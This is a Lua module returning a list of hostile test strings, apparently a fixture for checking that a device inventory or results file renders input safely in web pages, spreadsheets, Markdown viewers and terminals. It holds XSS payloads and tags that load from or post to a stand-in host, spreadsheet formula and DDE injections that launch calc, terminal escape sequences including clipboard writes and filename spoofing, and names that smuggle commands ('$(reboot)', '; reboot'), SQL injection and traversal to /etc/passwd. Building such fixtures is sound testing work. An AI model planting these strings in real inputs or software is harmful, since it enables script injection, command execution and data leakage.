--- Hostile texts, as a device, an inventory or a file of results could hold them: each
-- is meant for a page, a spreadsheet, a Markdown viewer or a terminal. 200 and more.
local payload = {}

-- for a page
local MARKUP = {
  "<script>alert(1)</script>", "</pre><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<iframe src=javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>", "\"><script>alert(1)</script>",
  "' onmouseover='alert(1)",
  "\" onfocus=\"alert(1)\" autofocus=\"", "<style>*{display:none}</style>",
  "</style><script>x()</script>",
  "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>",
  "<?xml version='1.0'?>",
  "<base href='http://192.0.2.1/'>",
  "<meta http-equiv=refresh content='0;url=http://192.0.2.1'>",
  "<link rel=stylesheet href=http://192.0.2.1/x.css>", "<object data=x>",
  "<embed src=x>",
  "<form action=http://192.0.2.1><input name=p>", "<button onclick=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script>",
  "<plaintext>",
  "<BODY ONLOAD=alert(1)>", "<ScRiPt>alert(1)</sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;", "&amp;lt;",
  "&copy", "&#0;", "&#x1b;[2J",
  "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{7*7}}", "${7*7}",
  "<%= 7*7 %>", "#{7*7}",
  "</main></body></html><script>alert(1)</script>",
  "</details></section><h1>owned</h1>", "</svg><script>alert(1)</script>",
  "</td></tr></table><script>alert(1)</script>", "<marquee>", "<dialog open>",
  "<slot>", "<frameset onload=alert(1)>",
  "<img src='http://192.0.2.1/beacon.png'>", "<table background=javascript:alert(1)>",
  "<x onclick=alert(1)>click",
  "<a id=x tabindex=1 onfocus=alert(1)>",
  "<style>@import 'http://192.0.2.1/x.css';</style>",
  "<p style='background:url(http://192.0.2.1)'>",
}

-- for a spreadsheet
local FORMULAS = {
  "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
  "=HYPERLINK(\"http://192.0.2.1\",\"x\")",
  "=IMPORTXML(\"http://192.0.2.1\",\"//a\")", "-2+3+cmd|' /C calc'!A0", "@=1",
  "=\"a\",\"b\"", "\"=1+1", ",=1+1", ";=1+1",
  "\n=1+1", "a\n=1+1", "a,\"b", "\"\"", "\"", "a\"\n\"=1+1",
  "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "--1", "=\t1",
}

-- for Markdown
local MARKDOWN = {
  "[x](javascript:alert(1))", "![x](http://192.0.2.1/x.png)", "[x]: http://192.0.2.1",
  "http://192.0.2.1", "www.example.com",
  "user@example.com", "<http://192.0.2.1>", "**bold**", "_em_", "__strong__",
  "~~gone~~", "`code`", "``code``", "```\nfence\n```",
  "` `` ```", "| a | b |", "a | b", "\\| a", "\\", "a\\", "`", "``", "a`", "`a",
  "# head", "- item", "1. item", "> quote", "---", "***",
  "    indented", "[ ] todo", ":smile:", "$x^2$", "$$x$$", "@everyone", "#123",
  "a\\`b", "|`|`|", "a  \nb", "a\n\nb", "<br>", "&#124;",
  "\\`<script>alert(1)</script>\\`", "`|<script>alert(1)</script>|`", "![][x]", "[^1]",
  "==mark==", "^up^", "~down~",
}

-- for a terminal
local CONTROLS = {
  "\27[2J", "\27[H", "\27]0;title\7", "\27]52;c;cHduZWQ=\7",
  "\27]8;;http://192.0.2.1\27\\x\27]8;;\27\\", "\27P+q544e\27\\", "\27[6n",
  "\27[?1049h", "\27c", "\27[31mred", "\x9b31m", "\xc2\x9b31m", "\x90q\x9c", "\7\7\7",
  "\8\8\8hidden", "a\rb", "\0", "a\0b", "\127",
  "\14\15", "\27[8mhidden", "\27[1;1Hok", "\u{202e}gpj.exe", "\u{2066}x\u{2069}",
  "\u{200e}\u{200f}", "\u{2028}\u{2029}", "\u{61c}",
  "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "é\xc3", "\u{feff}bom",
  "\11\12", "\5", "\27[5i", "\27[?9h", "\x9d0;t\x9c",
}

-- names that look like something else
local NAMES = {
  "", " ", "  two  spaces  ", "\n", "\t", ".", "..", "../../etc/passwd", "/etc/passwd",
  "-rf", "--help", "nul", "con", "a/b", "a\\b",
  "$(reboot)", "`reboot`", "; reboot", "| reboot", "&& reboot",
  "'; drop table devices; --", "%s%s%s%n", "%d", "null", "true",
  "nan", "1e999", "undefined", "__proto__", "constructor",
}

for _, list in ipairs { MARKUP, FORMULAS, MARKDOWN, CONTROLS, NAMES } do
  table.move(list, 1, #list, #payload + 1, payload)
end

return payload
